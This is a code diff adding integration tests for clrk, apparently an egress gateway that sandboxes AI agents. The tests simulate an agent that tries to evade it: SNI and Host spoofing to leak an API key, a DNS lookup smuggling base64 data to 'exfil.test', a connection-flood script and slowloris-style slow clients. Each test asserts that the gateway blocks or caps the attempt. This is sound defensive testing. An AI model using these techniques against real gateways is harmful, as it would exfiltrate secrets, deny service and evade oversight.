@@ -32,6 +32,29 @@ import json, os, sys, urllib.request, urllib.error
 data = json.load(sys.stdin).get("data", {})
 out = []
 for call in data.get("calls", []):
+    if "raw" in call:
+        # A request written by hand, with whatever TLS name and Host the caller chooses,
+        # to the address a name resolves to: what an agent that lies to the gateway sends.
+        import socket, ssl
+        raw = call["raw"]
+        try:
+            conn = socket.create_connection((raw["connect"], raw["port"]), timeout=30)
+            if "sni" in raw:
+                context = ssl.create_default_context()
+                context.check_hostname = False
+                context.verify_mode = ssl.CERT_NONE
+                conn = context.wrap_socket(conn, server_hostname=raw["sni"])
+            head = f"GET {raw.get('path', '/')} HTTP/1.1\r\nHost: {raw['host']}\r\nConnection: close\r\n"
+            head += "".join(f"{k}: {v}\r\n" for k, v in raw.get("headers", {}).items())
+            conn.sendall((head + "\r\n").encode())
+            got = b""
+            while chunk := conn.recv(65536):
+                got += chunk
+            status = int(got.split(b" ", 2)[1]) if got else 0
+            out.append({"status": status, "body": got.partition(b"\r\n\r\n")[2].decode(errors="replace")})
+        except Exception as e:
+            out.append({"status": 0, "error": repr(e)})
+        continue
     if "upgrade" in call:
         # A protocol switch by hand: urllib has none.
         import socket, ssl
@@ -242,6 +265,16 @@ fn sh(script: &str) {
 /// A DNS server for the test's names: `*.test` names it knows point at the upstream, the
 /// rest do not exist.
 async fn dns_server(upstream: Ipv4Addr, upstream6: Ipv6Addr) -> SocketAddr {
+    dns_server_asked(upstream, upstream6).await.0
+}
+
+/// [`dns_server`], with every name it was asked about.
+async fn dns_server_asked(
+    upstream: Ipv4Addr,
+    upstream6: Ipv6Addr,
+) -> (SocketAddr, Arc<Mutex<Vec<String>>>) {
+    let asked: Arc<Mutex<Vec<String>>> = Arc::default();
+    let log = Arc::clone(&asked);
     let socket = tokio::net::UdpSocket::bind("127.0.0.1:0").await.unwrap();
     let addr = socket.local_addr().unwrap();
     tokio::spawn(async move {
@@ -259,6 +292,7 @@ async fn dns_server(upstream: Ipv4Addr, upstream6: Ipv6Addr) -> SocketAddr {
             answer.add_queries(query.queries.clone());
             let q = &query.queries[0];
             let name = q.name().to_ascii().trim_end_matches('.').to_string();
+            log.lock().unwrap().push(name.clone());
             let known = [
                 "llm.test",
                 "bad.test",
@@ -288,7 +322,7 @@ async fn dns_server(upstream: Ipv4Addr, upstream6: Ipv6Addr) -> SocketAddr {
             let _ = socket.send_to(&answer.to_vec().unwrap(), peer).await;
         }
     });
-    addr
+    (addr, asked)
 }
 
 /// One span as the receiver decoded it.
@@ -1020,4 +1054,550 @@ async fn the_llm_example_answers_with_the_key_it_never_holds() {
         "x-api-key (replaced the agent's)"
     );
     assert_eq!(recorded[0]["inputTokens"], 10);
+}
+
+/// A child process killed when dropped.
+struct Killed(Child);
+
+impl Drop for Killed {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+/// Starts `python3 -c script` (with `args`) in the upstream's namespace and waits until
+/// `port` at the upstream's address accepts connections.
+fn start_in_upstream(upstream: &Upstream, port: u16, script: &str, args: &[&str]) -> Killed {
+    let child = Killed(
+        Command::new("ip")
+            .args(["netns", "exec", &upstream.netns, "python3", "-c", script])
+            .args(args)
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .spawn()
+            .unwrap(),
+    );
+    let started = std::time::Instant::now();
+    while std::net::TcpStream::connect((upstream.ip, port)).is_err() {
+        assert!(
+            started.elapsed() < common::DEADLINE,
+            "nothing listens on {}:{port}",
+            upstream.ip
+        );
+        std::thread::sleep(std::time::Duration::from_millis(100));
+    }
+    child
+}
+
+/// A request the agent writes by hand to the address `connect` resolves to.
+fn raw(connect: &str, port: u16, sni: Option<&str>, host: &str, path: &str) -> Value {
+    let mut raw = json!({"connect": connect, "port": port, "host": host, "path": path,
+                         "headers": {"x-api-key": PLACEHOLDER}});
+    if let Some(sni) = sni {
+        raw["sni"] = json!(sni);
+    }
+    json!({ "raw": raw })
+}
+
+/// The gateway sends a request only to the name it verified, and that name must be allowed
+/// and resolved through clrk: an agent that resolves an allowed name and then sends another
+/// TLS name or `Host` to its address reaches nothing, the key never leaves, and the record
+/// says why.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn names_sent_upstream_are_the_allowed_ones() {
+    let upstream = Upstream::start();
+    let dns = dns_server(upstream.ip, upstream.ip6).await;
+    let (otlp, _spans) = otlp_receiver().await;
+    // A plain HTTP server at the upstream's address, which answers any Host.
+    let _plain = start_in_upstream(
+        &upstream,
+        80,
+        "import http.server, sys; http.server.ThreadingHTTPServer((sys.argv[1], 80), http.server.SimpleHTTPRequestHandler).serve_forever()",
+        &[&upstream.ip.to_string()],
+    );
+    let dev = Dev::start_with(&["--dns-upstream", &dns.to_string()]);
+    let out = dev.clrk(&[
+        "secret",
+        "set",
+        "anthropic",
+        "--from-literal",
+        &format!("token={SECRET}"),
+    ]);
+    assert!(out.status.success(), "{}", common::text(&out.stderr));
+    dev.apply(&manifests(&upstream.ca_pem, &upstream.ca_file, otlp));
+
+    // Terminated TLS (gateway main: llm.test is allowed and gets the key).
+    let (execution, report) = call(
+        &dev,
+        "caller",
+        json!({"calls": [
+            raw("llm.test", 443, Some("llm.test"), "llm.test", "/v1/plain"),
+            raw("llm.test", 443, Some("llm.test"), "other.test", "/v1/plain"),
+            raw("llm.test", 443, Some("api.anthropic.com"), "api.anthropic.com", "/v1/plain"),
+            raw("llm.test", 80, None, "other.test", "/"),
+            raw("llm.test", 80, None, "llm.test", "/"),
+        ]}),
+    )
+    .await;
+    let results = report["results"].as_array().unwrap();
+    assert_eq!(results[0]["status"], 200, "{report}");
+    let seen: Value = serde_json::from_str(results[0]["body"].as_str().unwrap()).unwrap();
+    assert_eq!(seen["headers"]["x-api-key"], SECRET, "{report}");
+    let refused = |i: usize, why: &str| {
+        assert_eq!(results[i]["status"], 403, "call {i}: {report}");
+        let body = results[i]["body"].as_str().unwrap();
+        assert!(body.contains(why), "call {i}: {body}");
+        assert!(!body.contains(SECRET), "call {i}: {body}");
+    };
+    refused(1, "Host other.test does not match TLS name llm.test");
+    refused(
+        2,
+        &format!(
+            "TLS name api.anthropic.com was not resolved to {}",
+            upstream.ip
+        ),
+    );
+    refused(
+        3,
+        &format!("Host other.test was not resolved to {}", upstream.ip),
+    );
+    refused(4, "only over TLS");
+
+    let recorded = records(&dev, "caller").await;
+    let mine: Vec<&Value> = recorded
+        .iter()
+        .filter(|r| r["executionId"] == execution.as_str())
+        .collect();
+    let all = serde_json::to_string_pretty(&mine).unwrap();
+    let find = |name: &str, why: &str| {
+        mine.iter()
+            .find(|r| {
+                r["destinationName"] == name
+                    && r["reason"].as_str().unwrap_or_default().contains(why)
+            })
+            .unwrap_or_else(|| panic!("no record of {name} saying {why}: {all}"))
+    };
+    let ok = find("llm.test", "aiproviderroute llm allows llm.test:443");
+    assert_eq!(ok["allowed"], true, "{ok}");
+    for (name, why) in [
+        ("llm.test", "does not match TLS name llm.test"),
+        ("api.anthropic.com", "was not resolved"),
+        ("other.test", "was not resolved"),
+        ("llm.test", "only over TLS"),
+    ] {
+        let r = find(name, why);
+        assert_eq!(r["allowed"], false, "{r}");
+        assert!(r["injectedHeader"].is_null(), "{r}");
+    }
+
+    // Passthrough (gateway pass: llm.test only): another TLS name opens nothing.
+    let (_, report) = call(
+        &dev,
+        "passer",
+        json!({"calls": [
+            raw("llm.test", 443, Some("llm.test"), "llm.test", "/v1/plain"),
+            raw("llm.test", 443, Some("api.anthropic.com"), "api.anthropic.com", "/v1/plain"),
+        ]}),
+    )
+    .await;
+    assert_eq!(report["results"][0]["status"], 200, "{report}");
+    assert_eq!(
+        report["results"][1]["status"], 0,
+        "the upstream was reached under a name no route allows: {report}"
+    );
+    let recorded = records(&dev, "passer").await;
+    let denied = recorded
+        .iter()
+        .find(|r| r["destinationName"] == "api.anthropic.com")
+        .unwrap_or_else(|| panic!("{recorded:#?}"));
+    assert_eq!(denied["allowed"], false, "{denied}");
+    assert!(
+        denied["reason"]
+            .as_str()
+            .unwrap()
+            .contains("TLS name api.anthropic.com was not resolved"),
+        "{denied}"
+    );
+}
+
+/// Under a route with only `destinationCIDRs`, a name no rule names is not asked of the DNS
+/// server (an agent could otherwise carry data out in the names it looks up), unless the
+/// gateway opts in with `spec.dns.forwardAll`.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn names_no_rule_names_are_not_forwarded() {
+    let (dns, asked) = dns_server_asked(Ipv4Addr::new(192, 0, 2, 1), Ipv6Addr::LOCALHOST).await;
+    let dev = Dev::start_with(&["--dns-upstream", &dns.to_string()]);
+    let lookup = serde_json::to_string(
+        "import socket\ntry:\n    socket.getaddrinfo('c2VjcmV0.exfil.test', 443)\nexcept OSError as e:\n    print(e)\nprint('done')",
+    )
+    .unwrap();
+    let agent = |name: &str, gateway: &str| {
+        format!(
+            r#"---
+apiVersion: clrk.apoxy.dev/v1alpha1
+kind: TaskAgent
+metadata: {{name: {name}}}
+spec:
+  timeout: 60s
+  egressRefs: [{{gatewayRef: {gateway}}}]
+  template:
+    spec:
+      image: "host:"
+      command: ["python3", "-c", {lookup}]
+"#
+        )
+    };
+    let gateways = format!(
+        r#"apiVersion: clrk.apoxy.dev/v1alpha1
+kind: EgressGateway
+metadata: {{name: ranges}}
+---
+apiVersion: clrk.apoxy.dev/v1alpha1
+kind: EgressGateway
+metadata: {{name: ranges-by-name}}
+spec: {{dns: {{forwardAll: true}}}}
+---
+apiVersion: clrk.apoxy.dev/v1alpha1
+kind: EgressL4Route
+metadata: {{name: net}}
+spec:
+  parentRefs: [{{name: ranges}}, {{name: ranges-by-name}}]
+  rules: [{{destinationCIDRs: [192.0.2.0/24]}}]
+{}{}"#,
+        agent("quiet", "ranges"),
+        agent("chatty", "ranges-by-name")
+    );
+    dev.apply(&gateways);
+    let ask = |agent: &'static str| {
+        let dev = &dev;
+        async move {
+            let r = dev
+                .invoke(&[("X-Clrk-TaskAgent", &format!("default/{agent}"))], "x")
+                .await;
+            assert_eq!(r.status, 200, "{agent}: {}", r.text());
+            assert!(r.text().contains("done"), "{agent}: {}", r.text());
+        }
+    };
+    ask("quiet").await;
+    assert!(
+        !asked
+            .lock()
+            .unwrap()
+            .iter()
+            .any(|n| n.contains("exfil.test")),
+        "a name no rule names reached the DNS server: {:?}",
+        asked.lock().unwrap()
+    );
+    let recorded = records(&dev, "quiet").await;
+    let denied = recorded
+        .iter()
+        .find(|r| r["protocol"] == "dns" && r["destinationName"] == "c2vjcmv0.exfil.test")
+        .unwrap_or_else(|| panic!("{recorded:#?}"));
+    assert_eq!(denied["allowed"], false, "{denied}");
+    assert!(
+        denied["reason"]
+            .as_str()
+            .unwrap()
+            .contains("dns.forwardAll"),
+        "{denied}"
+    );
+    // With the opt-in, the name is asked and its answer checked against the ranges.
+    ask("chatty").await;
+    assert!(
+        asked
+            .lock()
+            .unwrap()
+            .iter()
+            .any(|n| n.eq_ignore_ascii_case("c2VjcmV0.exfil.test")),
+        "{:?}",
+        asked.lock().unwrap()
+    );
+}
+
+/// Opens `connections` TCP connections to `host`:`port` from a few processes, holds them
+/// `hold` seconds and reports how many opened.
+const FLOOD: &str = r#"
+import json, os, socket, sys, time
+data = json.load(sys.stdin)["data"]
+procs, hold = 8, data["hold"]
+each = data["connections"] // procs
+pipes = []
+for _ in range(procs):
+    r, w = os.pipe()
+    if os.fork() == 0:
+        held = []
+        for _ in range(each):
+            try:
+                held.append(socket.create_connection((data["host"], data["port"]), timeout=20))
+            except OSError:
+                pass
+        os.write(w, f"{len(held)}\n".encode())
+        time.sleep(hold)
+        os._exit(0)
+    pipes.append(r)
+opened = sum(int(os.read(r, 64)) for r in pipes)
+for _ in pipes:
+    os.wait()
+print(json.dumps({"opened": opened}), flush=True)
+"#;
+
+/// Descriptors the process `pid` holds open.
+fn open_fds(pid: u32) -> usize {
+    std::fs::read_dir(format!("/proc/{pid}/fd")).map_or(0, |d| d.count())
+}
+
+/// An agent opening connections through the gateway as fast as it can holds at most its
+/// share of clrk's descriptors: beyond the cap its connections are closed at once (and that
+/// is recorded), while another agent's egress and the control API answer.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_connection_flood_is_capped_per_sandbox() {
+    const CONNECTIONS: usize = 2400;
+    let upstream = Upstream::start();
+    let dns = dns_server(upstream.ip, upstream.ip6).await;
+    let (otlp, _spans) = otlp_receiver().await;
+    // Accepts and keeps every connection, answering nothing.
+    let _sink = start_in_upstream(
+        &upstream,
+        9000,
+        "import socket, sys\ns = socket.socket()\ns.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\ns.bind((sys.argv[1], 9000))\ns.listen(4096)\nheld = []\nwhile True:\n    held.append(s.accept()[0])",
+        &[&upstream.ip.to_string()],
+    );
+    let dev = Dev::start_with(&["--dns-upstream", &dns.to_string()]);
+    let out = dev.clrk(&[
+        "secret",
+        "set",
+        "anthropic",
+        "--from-literal",
+        &format!("token={SECRET}"),
+    ]);
+    assert!(out.status.success(), "{}", common::text(&out.stderr));
+    dev.apply(&manifests(&upstream.ca_pem, &upstream.ca_file, otlp));
+    dev.apply(&format!(
+        r#"apiVersion: clrk.apoxy.dev/v1alpha1
+kind: EgressL4Route
+metadata: {{name: sink}}
+spec:
+  parentRefs: [{{name: main}}]
+  rules: [{{destinationHostnames: [llm.test], ports: [9000]}}]
+---
+apiVersion: clrk.apoxy.dev/v1alpha1
+kind: TaskAgent
+metadata: {{name: flooder}}
+spec:
+  timeout: 300s
+  egressRefs: [{{gatewayRef: main}}]
+  template:
+    spec:
+      image: "host:"
+      command: ["python3", "-c", {}]
+"#,
+        serde_json::to_string(FLOOD).unwrap()
+    ));
+    // The other agent's sandbox is started once before, so that its own descriptors count in
+    // the baseline.
+    let (_, report) = call(
+        &dev,
+        "caller",
+        json!({"calls": [{"url": "https://llm.test/v1/plain"}]}),
+    )
+    .await;
+    assert_eq!(report["results"][0]["status"], 200, "{report}");
+    let pid = dev.pid();
+    let baseline = open_fds(pid);
+
+    let sampling = Arc::new(std::sync::atomic::AtomicBool::new(true));
+    let most = Arc::new(std::sync::atomic::AtomicUsize::new(0));
+    let sampler = {
+        let (sampling, most) = (Arc::clone(&sampling), Arc::clone(&most));
+        std::thread::spawn(move || {
+            while sampling.load(std::sync::atomic::Ordering::Relaxed) {
+                most.fetch_max(open_fds(pid), std::sync::atomic::Ordering::Relaxed);
+                std::thread::sleep(std::time::Duration::from_millis(50));
+            }
+        })
+    };
+    let ingress = dev.ingress.clone();
+    let flood = tokio::spawn(async move {
+        common::request(
+            "POST",
+            &format!("{ingress}/"),
+            &[
+                ("X-Clrk-TaskAgent", "default/flooder"),
+                ("content-type", "application/json"),
+            ],
+            Bytes::from(
+                json!({"connections": CONNECTIONS, "host": "llm.test", "port": 9000, "hold": 60})
+                    .to_string(),
+            ),
+        )
+        .await
+    });
+
+    // While the flood is held (clrk holds more descriptors, or refuses), another agent's
+    // egress and the control API answer.
+    eventually("the flood to begin", || async {
+        let started = open_fds(pid) > baseline + 200 || !limit_records(&dev).await.is_empty();
+        started.then_some(())
+    })
+    .await;
+    let (_, report) = call(
+        &dev,
+        "caller",
+        json!({"calls": [{"url": "https://llm.test/v1/plain"}]}),
+    )
+    .await;
+    assert_eq!(report["results"][0]["status"], 200, "{report}");
+    let api = dev.api_get("/v1/agents").await;
+    assert_eq!(api.status, 200, "{}", api.text());
+
+    let flooded = flood.await.unwrap();
+    sampling.store(false, std::sync::atomic::Ordering::Relaxed);
+    sampler.join().unwrap();
+    assert_eq!(flooded.status, 200, "{}", flooded.text());
+    let opened = serde_json::from_str::<Value>(flooded.text().trim()).unwrap()["opened"]
+        .as_u64()
+        .unwrap();
+    let most = most.load(std::sync::atomic::Ordering::Relaxed);
+    eprintln!(
+        "flood: {opened} connections opened; clrk held {baseline} descriptors before, at most {most} during"
+    );
+    assert!(
+        opened as usize >= CONNECTIONS * 9 / 10,
+        "the agent opened only {opened}"
+    );
+    // Two descriptors per relayed connection (the agent's, the upstream's), plus slack for
+    // the other agent's sandbox and the API.
+    assert!(
+        most <= baseline + 2 * 256 + 200,
+        "clrk held {most} descriptors during the flood, {baseline} before"
+    );
+    // A record says the cap was reached; refusals are recorded about once a second, not
+    // once per connection.
+    let refusals = limit_records(&dev).await;
+    assert!(!refusals.is_empty(), "no record of the connection limit");
+    assert_eq!(refusals[0]["allowed"], false, "{}", refusals[0]);
+    assert!(refusals.len() < 100, "{} refusal records", refusals.len());
+}
+
+/// The flooder's records saying its connection limit was reached.
+async fn limit_records(dev: &Dev) -> Vec<Value> {
+    records(dev, "flooder")
+        .await
+        .into_iter()
+        .filter(|r| {
+            r["reason"]
+                .as_str()
+                .is_some_and(|s| s.contains("connection limit 256 reached"))
+        })
+        .collect()
+}
+
+/// Three slow clients at once, each timed until the gateway closes on it: headers trickled a
+/// byte every 5 s, a kept-alive connection left idle, a provider request body trickled a
+/// byte every 5 s. Each reports the seconds until the gateway gave up (None if it never did
+/// within `limit`) and the status it answered, if any.
+const SLOW: &str = r#"
+import http.client, json, socket, ssl, sys, threading, time
+limit = json.load(sys.stdin)["data"]["limit"]
+report = {}
+
+def closed_within(sock, start, trickle):
+    sock.settimeout(5)
+    while time.time() - start < limit:
+        try:
+            if trickle:
+                sock.sendall(b"x")
+            if sock.recv(65536) == b"":
+                return round(time.time() - start)
+        except socket.timeout:
+            continue
+        except OSError:
+            return round(time.time() - start)
+    return None
+
+def headers():
+    sock = ssl.create_default_context().wrap_socket(
+        socket.create_connection(("llm.test", 443), timeout=30), server_hostname="llm.test")
+    sock.sendall(b"GET /v1/plain HTTP/1.1\r\nHost: llm.test\r\nX-Slow: ")
+    report["headers"] = {"after": closed_within(sock, time.time(), True)}
+
+def idle():
+    conn = http.client.HTTPSConnection("llm.test", timeout=30)
+    conn.request("GET", "/v1/plain")
+    conn.getresponse().read()
+    report["idle"] = {"after": closed_within(conn.sock, time.time(), False)}
+
+def body():
+    sock = ssl.create_default_context().wrap_socket(
+        socket.create_connection(("llm.test", 443), timeout=30), server_hostname="llm.test")
+    sock.sendall(b"POST /v1/messages HTTP/1.1\r\nHost: llm.test\r\n"
+                 b"content-type: application/json\r\ncontent-length: 1000\r\n\r\n")
+    sock.settimeout(5)
+    start, after, status = time.time(), None, 0
+    while time.time() - start < limit:
+        try:
+            sock.sendall(b" ")
+            got = sock.recv(65536)
+        except socket.timeout:
+            continue
+        except OSError:
+            after = round(time.time() - start)
+            break
+        after = round(time.time() - start)
+        if got:
+            status = int(got.split(b" ", 2)[1])
+        break
+    report["body"] = {"after": after, "status": status}
+
+threads = [threading.Thread(target=f) for f in (headers, idle, body)]
+for t in threads:
+    t.start()
+for t in threads:
+    t.join()
+print(json.dumps(report), flush=True)
+"#;
+
+/// A client trickling its headers or its body, or leaving a kept-alive connection idle, is cut
+/// off by the gateway instead of holding the connection (and clrk's descriptors) for ever.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn slow_and_idle_clients_are_cut_off() {
+    let upstream = Upstream::start();
+    let dns = dns_server(upstream.ip, upstream.ip6).await;
+    let (otlp, _spans) = otlp_receiver().await;
+    let dev = Dev::start_with(&["--dns-upstream", &dns.to_string()]);
+    let out = dev.clrk(&[
+        "secret",
+        "set",
+        "anthropic",
+        "--from-literal",
+        &format!("token={SECRET}"),
+    ]);
+    assert!(out.status.success(), "{}", common::text(&out.stderr));
+    dev.apply(&manifests(&upstream.ca_pem, &upstream.ca_file, otlp));
+    dev.apply(&format!(
+        r#"apiVersion: clrk.apoxy.dev/v1alpha1
+kind: TaskAgent
+metadata: {{name: slow}}
+spec:
+  timeout: 150s
+  egressRefs: [{{gatewayRef: main}}]
+  template:
+    spec:
+      image: "host:"
+      command: ["python3", "-c", {}]
+"#,
+        serde_json::to_string(SLOW).unwrap()
+    ));
+    let (_, report) = call(&dev, "slow", json!({"limit": 90})).await;
+    eprintln!("slow clients: {report}");
+    // The gateway gives 30 s; a loaded machine may add some.
+    for probe in ["headers", "idle", "body"] {
+        let after = report[probe]["after"].as_u64();
+        assert!(
+            after.is_some_and(|s| (25..=60).contains(&s)),
+            "{probe}: {report}"
+        );
+    }
+    assert_eq!(report["body"]["status"], 408, "{report}");
 }
